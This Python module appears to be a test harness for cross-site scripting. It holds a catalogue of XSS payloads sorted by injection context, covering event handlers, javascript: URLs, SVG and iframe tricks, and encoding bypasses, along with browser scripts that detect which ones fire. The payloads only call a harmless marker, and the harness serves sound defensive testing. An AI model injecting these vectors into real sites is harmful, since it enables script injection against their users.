"""What people try who want a page to run their words: by what it would have to stand in to work.

FIRE stands for a call that tells that it ran; `numbered` gives each its number.
"""

import html
import unicodedata
from collections.abc import Callable
from urllib.parse import unquote

# How a careless page would write somebody's words.
CARELESS: dict[str, Callable[[str], str]] = {
    "text": lambda words: f"<p>{words}</p>",
    "double": lambda words: f'<input value="{words}">',
    "single": lambda words: f"<input value='{words}'>",
    "bare": lambda words: f"<input value={words}>",
    "address": lambda words: f'<a href="{words}">x</a>',
    "title": lambda words: f"<title>{words}</title>",
    "textarea": lambda words: f"<textarea>{words}</textarea>",
    "option": lambda words: f"<select><option>{words}</option></select>",
    "comment": lambda words: f"<!-- {words} -->",
    "style": lambda words: f"<style>p {{ color: {words} }}</style>",
    "data": lambda words: f'<script type="application/ld+json">{{"name": "{words}"}}</script>',
    "unescaped": lambda words: f"<p>{html.unescape(words)}</p>",
    "unquoted": lambda words: f"<p>{unquote(words)}</p>",
    "normalised": lambda words: f"<p>{unicodedata.normalize('NFKC', words)}</p>",
}

_SCRIPT = "<script>FIRE</script>"
_IMAGE = "<img src=x onerror=FIRE>"

_BY_PLACE: dict[str, list[str]] = {
    "text": [
        _SCRIPT,
        "<ScRiPt>FIRE</sCrIpT>",
        "<script/x>FIRE</script>",
        "<script>FIRE<!--",
        '<script src="data:text/javascript,FIRE"></script>',
        _IMAGE,
        '<img src=x onerror="FIRE">',
        "<IMG SRC=x OnErRoR=FIRE>",
        "<img/src=x/onerror=FIRE>",
        "<img src=x\tonerror\x0b=\x0cFIRE onerror=FIRE>",
        "<img srcset='x 1x' src=x onerror=FIRE>",
        "<picture><source srcset=x><img src=x onerror=FIRE></picture>",
        "<svg onload=FIRE>",
        "<svg/onload=FIRE>",
        "<svg><script>FIRE</script></svg>",
        "<svg><animate onbegin=FIRE attributeName=x dur=1s>",
        "<svg><set onbegin=FIRE attributeName=x>",
        '<svg><a xlink:href="javascript:FIRE"><text>x</text></a></svg>',
        '<math><a href="javascript:FIRE">x</a></math>',
        "<body onload=FIRE>",
        '<iframe src="javascript:FIRE"></iframe>',
        f"<iframe srcdoc='{_SCRIPT}'></iframe>",
        '<iframe srcdoc="&lt;script&gt;FIRE&lt;/script&gt;"></iframe>',
        "<iframe onload=FIRE></iframe>",
        '<object data="javascript:FIRE"></object>',
        '<embed src="javascript:FIRE">',
        "<details open ontoggle=FIRE><summary>x</summary></details>",
        "<video src=x onerror=FIRE></video>",
        "<video><source onerror=FIRE src=x></video>",
        "<audio src=x onerror=FIRE></audio>",
        "<input autofocus onfocus=FIRE>",
        "<textarea autofocus onfocus=FIRE></textarea>",
        "<select autofocus onfocus=FIRE></select>",
        "<marquee onstart=FIRE>x</marquee>",
        "<b style='animation:a' onanimationstart=FIRE>x</b>",
        "<link rel=stylesheet href='data:text/css,x' onload=FIRE>",
        '<a href="javascript:FIRE">x</a>',
        '<a href="jav&#x09;ascript:FIRE">x</a>',
        '<a href=" &#1; javascript:FIRE">x</a>',
        '<form action="javascript:FIRE"><button>x</button></form>',
        '<form><button formaction="javascript:FIRE">x</button></form>',
        '<meta http-equiv="refresh" content="9;url=javascript:FIRE">',
        '<base href="javascript:FIRE//">',
        f"<template>{_SCRIPT}</template>{_SCRIPT}",
        '<noscript><p title="</noscript><img src=x onerror=FIRE>">',
        "<!--><img src=x onerror=FIRE>-->",
        "<![CDATA[><img src=x onerror=FIRE>]]>",
        f"<?xml version='1.0'?>{_SCRIPT}",
        ']]><script xmlns="http://www.w3.org/1999/xhtml">FIRE</script>',
        '<b hx-on:click="FIRE">x</b>',
        '<b data-hx-on-click="FIRE">x</b>',
        '<div style="background:url(javascript:FIRE)">x</div>',
        '<style>*{background:url("javascript:FIRE")}</style>',
        f"\u202e{_SCRIPT}",
        f"\u2028{_SCRIPT}\u2029",
        f"{{% autoescape off %}}{_IMAGE}{{% endautoescape %}}",
        f"{{{{ '{_SCRIPT}'|safe }}}}",
        f"{'<' * 60}{_SCRIPT}",
    ],
    "double": [f'">{_SCRIPT}', '" onmouseover=FIRE x="', '" autofocus onfocus=FIRE x="'],
    "single": [f"'>{_SCRIPT}", "' onmouseover=FIRE x='"],
    "bare": ["x onmouseover=FIRE", f"x>{_IMAGE}"],
    "address": [
        "javascript:FIRE",
        "JaVaScRiPt:FIRE",
        "java\tscript:FIRE",
        "\x01javascript:FIRE",
        "javascript://outlet.example/%0AFIRE",
        "data:text/html,<script>FIRE</script>",
        "vbscript:FIRE",
    ],
    "title": [f"</title>{_SCRIPT}"],
    "textarea": [f"</textarea>{_SCRIPT}"],
    "option": [f"</option></select>{_IMAGE}"],
    "comment": [f"-->{_SCRIPT}"],
    "style": [f"</style>{_SCRIPT}"],
    "data": [f"</script>{_SCRIPT}", f'"}}</script>{_IMAGE}', f"</ScRiPt >{_SCRIPT}"],
    "unescaped": ["&lt;script&gt;FIRE&lt;/script&gt;", "&#60;img src=x onerror=FIRE&#62;"],
    "unquoted": ["%3Cscript%3EFIRE%3C/script%3E"],
    "normalised": ["\uff1cscript\uff1eFIRE\uff1c/script\uff1e"],
}


def numbered() -> list[tuple[str, str]]:
    """Each with the place in which it works and its own call."""
    told = [(place, words) for place, several in _BY_PLACE.items() for words in several]
    return [(place, words.replace("FIRE", f"fire({n})")) for n, (place, words) in enumerate(told)]


PAYLOADS = [words for _, words in numbered()]
ADDRESSES = [words for place, words in numbered() if place == "address"]


def bundled(longest: int) -> list[str]:
    """All of them in texts of at most that length, as fit into columns; addresses each alone."""
    texts = [""]
    for place, words in numbered():
        if place != "address":
            longer = f"{texts[-1]} {words}".strip()
            texts[-1:] = [longer] if len(longer) <= longest else [texts[-1], words]
    return [*ADDRESSES, *texts]


# One name that breaks out of most places.
BREAKING = " ".join(w for p, w in numbered() if p in ("double", "title", "textarea", "data"))[:190]

# Runs in each page and frame before anything else.
LISTEN = """
window.fired = [];
window.fire = (number) => { window.top.fired.push(number); };
window.alert = window.confirm = window.prompt = () => window.fire("alert");
"""

# What waits in a page for somebody to click or look: attributes and addresses that would run.
PLANTED = r"""
() => {
  const found = [];
  const runs = (value) => value.includes("fire(");
  const scheme = /^[\s\x00-\x20]*(javascript|vbscript|data):/i;
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const handles = /^(on|hx-on|data-hx-on)/i.test(name) || /^(style|srcdoc)$/i.test(name);
      const leads = /(href|src|action|data|poster|content)$/i.test(name) && runs(value);
      const bare = value.replace(/[\t\r\n]/g, "").replace(/^\d+;url=/, "");
      if ((handles && runs(value)) || (leads && scheme.test(bare))) found.push(`${name}=${value}`);
    }
    const kind = element.type || "";
    const active = element.matches("style") || (element.matches("script") && !/json/.test(kind));
    if (active && runs(element.textContent)) found.push(element.textContent);
  }
  return found;
}
"""
